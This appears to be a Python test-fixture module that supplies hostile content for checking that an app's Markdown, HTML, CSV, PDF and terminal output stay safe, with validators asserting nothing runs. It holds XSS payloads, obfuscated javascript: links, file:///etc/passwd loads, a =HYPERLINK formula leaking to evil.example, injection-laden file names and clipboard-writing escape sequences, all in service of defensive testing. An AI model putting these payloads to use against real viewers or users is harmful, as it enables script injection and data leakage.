"""Hostile content for the report and terminal tests, made here, and the ways a viewer
opens what the app wrote.

- :data:`ANSWER`: a model answer that tries every way Markdown or HTML could run or load
  something (raw HTML, event handlers, remote and ``file://`` images in every Markdown
  form, ``javascript:``/``vbscript:``/``data:`` links, spelled with character references
  or a backslash, reference definitions, autolinks, attribute lists) and terminal escape
  sequences (OSC that retitles the window or writes the clipboard, CSI, C1 CSI, DCS), with
  ordinary Markdown around them that must survive.
- :data:`NAMES`: file names with HTML, a newline, escape sequences and formula starts.
- :func:`notebook`: a notebook whose figure cell holds a fence line and HTML after it.
- Viewers: :func:`markdown_as_a_viewer_renders_it` (markdown-it with raw HTML and every
  link allowed, as a lax viewer), :func:`assert_nothing_runs` (html.parser over
  the page), :func:`assert_csv_safe` (csv over the file), :func:`assert_pdf_safe` and
  :func:`assert_no_outside_escapes` (terminal output).
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

from PIL import Image

# Terminal escapes: OSC 0 (window title), OSC 52 (clipboard), CSI (clear, colour), C1 CSI,
# DCS. Each names a word that shows up, escaped, if it went through the output function.
OSC_TITLE = "\x1b]0;OWNED-TITLE\x07"
OSC_CLIPBOARD = "\x1b]52;c;b3duZWQ=\x07"
CSI_CLEAR = "\x1b[2J\x1b[31m"
C1_CSI = "\x9b31m"
DCS = "\x1bPq#0;2;0;0;0\x1b\\"
ESCAPES = OSC_TITLE + OSC_CLIPBOARD + CSI_CLEAR + C1_CSI + DCS

ANSWER = (
    '=HYPERLINK("http://evil.example/?leak","click")\n\n'
    "## The figure\n\nThe **growth rate** doubles after 2 h; p < 0.01 and `List<int>` stays.\n\n"
    "```python\nprint('<b>code</b>')\n```\n\n"
    "<script>alert('script')</script>\n\n"
    "<img src=x onerror=alert('img')> <IMG SRC=\"file:///etc/passwd\">\n\n"
    '<iframe src="http://evil.example/frame"></iframe>\n\n'
    "<svg onload=alert('svg')><a href=\"javascript:alert('a')\">x</a></svg>\n\n"
    "<details open ontoggle=alert('details')>d</details> <a href=\"javascript:alert(1)\">raw</a>\n\n"
    "![remote](http://evil.example/track.png) ![local](file:///etc/passwd) "
    "![data](data:image/png;base64,iVBORw0KGgo=) ![ref][pic] ![pic][] ![pic]\n\n"
    "[pic]: file:///home/user/secret.png\n\n"
    "[js](javascript:alert('js')) [JS](JaVaScRiPt:alert(1)) [vb](vbscript:msgbox(1)) "
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
    "[ent](&#106;avascript:alert('ent')) [hex](&#x6A;avascript:alert(1)) "
    "[colon](javascript&colon;alert(1)) [slash](javascript\\:alert(1)) [ref-js][js]\n\n"
    "[js]: javascript:alert('ref')\n\n"
    "<javascript:alert('autolink')> <http://evil.example/auto>\n\n"
    "[attr](http://ok.example){onclick=\"alert('attr')\"}\n\n"
    "x `a\nb` <img src=x onerror=alert('pair')> `c`\n\n"
    "- item\n  ```html\n  <img src=x onerror=alert('list-fence')>\n  ```\n\n"
    f"Terminal: {ESCAPES} end.\n\n"
    "A [good link](https://example.org/docs) stays.\n"
)

# What a reader must still see, in every format.
KEPT = ("growth rate", "p < 0.01", "good link")

NAMES = [
    '<img src=x onerror=alert("name")>.png',
    "=1+2.png",
    "@SUM(A1).png",
    "+1.png",
    "-1.png",
    "two\n# lines.png",
    f"esc{OSC_TITLE}.png",
]


def png(color=(200, 30, 30), size=(48, 32)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, "PNG")
    return buf.getvalue()


def write_figures(folder: Path) -> list[Path]:
    """One small PNG per hostile name in ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i, name in enumerate(NAMES):
        path = folder / name
        path.write_bytes(png((20 * i, 100, 150)))
        paths.append(path)
    return paths


CELL = (
    "import matplotlib.pyplot as plt\n"
    "doc = '''\n```\n<img src=x onerror=alert('cell')>\n[c](javascript:alert('cell'))\n```\n'''\n"
    "plt.plot([1, 2, 3])"
)


def notebook(path: Path) -> Path:
    """A notebook with one figure output whose cell holds a fence line and HTML after it."""
    nb = {
        "nbformat": 4, "nbformat_minor": 5,
        "metadata": {"language_info": {"name": "python"}},
        "cells": [{
            "cell_type": "code", "execution_count": 1, "id": "c1", "metadata": {},
            "source": CELL,
            "outputs": [{"output_type": "display_data", "metadata": {},
                         "data": {"image/png": base64.b64encode(png()).decode(),
                                  "text/plain": "<Figure>"}}],
        }],
    }  # fmt: skip
    path.write_text(json.dumps(nb), encoding="utf-8")
    return path


# --------------------------------------------------------------------------- viewers

# A URL's scheme as a browser reads it (after dropping blanks and control characters).
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")
_LOADING = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
            "math", "link", "base", "form", "input", "button", "video", "audio", "source",
            "track", "portal", "details", "image", "picture", "style", "meta"}  # fmt: skip
_URL_ATTRS = {"href", "src", "action", "formaction", "background", "poster", "xlink:href",
              "srcset", "data", "ping", "cite"}  # fmt: skip


def markdown_as_a_viewer_renders_it(text: str) -> str:
    """Markdown rendered as a lax viewer would: CommonMark + tables + strikethrough, raw
    HTML on, every link scheme allowed (bare-URL linking needs linkify-it, not installed;
    it makes only http and mailto links)."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True
    return md.render(text)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.stack: list[str] = []
        self.code_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k.lower(): (v or "") for k, v in attrs}))
        if tag in ("code", "pre"):
            self.stack.append(tag)

    def handle_endtag(self, tag):
        if tag in ("code", "pre") and tag in self.stack:
            self.stack.remove(tag)

    def handle_data(self, data):
        if self.stack:
            self.code_text.append(data)


def assert_nothing_runs(page: str, images: set[str] | None = None, *, head: bool = False) -> _Page:
    """Nothing in ``page`` (HTML) runs or loads: no loading or scripting element, no event
    handler, no URL but http(s), mailto, a fragment or a relative path, no image but
    ``images`` (their exact ``src``); ``head``: the page's own CSP meta and style are
    allowed. Returns the parsed page."""
    parsed = _Page()
    parsed.feed(page)
    images = images or set()
    for tag, attrs in parsed.tags:
        if head and (
            tag == "style" or (tag == "meta" and set(attrs) <= {"charset", "http-equiv", "content"})
        ):
            continue
        assert tag not in _LOADING, f"<{tag} {attrs}> in the output"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"<{tag} {name}={value!r}>"
            assert name != "style" or "url(" not in value.lower(), f"<{tag} style={value!r}>"
            if name in _URL_ATTRS and not (tag == "img" and name == "src"):
                scheme = _SCHEME.match(re.sub(r"[\x00-\x20]", "", value))
                assert not scheme or scheme.group(1).lower() in ("http", "https", "mailto"), (
                    f"<{tag} {name}={value!r}>"
                )
        if tag == "img":
            assert attrs.get("src") in images, f"an image the user did not choose: {attrs}"
    return parsed


def assert_markdown_safe(text: str, images: set[str] | None = None) -> _Page:
    """A Markdown report opened in a lax viewer runs and loads nothing."""
    return assert_nothing_runs(markdown_as_a_viewer_renders_it(text), images)


_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def assert_csv_safe(text: str) -> list[list[str]]:
    """No cell a spreadsheet would read as a formula, no control character; the rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \n").startswith(_FORMULA), f"formula cell {cell!r}"
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", cell), f"control in {cell!r}"
    return rows


def assert_pdf_safe(data: bytes, figures: int) -> str:
    """No script, launch or file action, links only to the web, ``figures`` images drawn;
    the text."""
    import pypdfium2

    for marker in (b"/JavaScript", b"/JS ", b"/Launch", b"/GoToR", b"/SubmitForm", b"/ImportData"):
        assert marker not in data, marker
    for uri in re.findall(rb"/URI \((.*?)\)", data):
        assert re.match(rb"(?i)(https?:|mailto:)", uri), uri
    doc = pypdfium2.PdfDocument(data)
    try:
        images = sum(1 for page in doc for obj in page.get_objects()
                     if obj.type == pypdfium2.raw.FPDF_PAGEOBJ_IMAGE)  # fmt: skip
        text = "".join(page.get_textpage().get_text_range() for page in doc)
    finally:
        doc.close()
    assert images == figures, f"{images} images drawn, {figures} figures chosen"
    return text


def assert_no_outside_escapes(output: bytes | str) -> str:
    """Terminal output (bytes from a pty or a pipe) that carries none of the escape
    sequences of :data:`ESCAPES` raw, but shows them escaped. Returns it as text."""
    text = output.decode("utf-8", "replace") if isinstance(output, bytes) else output
    for raw in ("\x1b]", "\x07", "\x1b[2J", "\x1b[31m", "\x9b", "\x1bP"):
        assert raw not in text, f"{raw!r} reached the terminal"
    return text
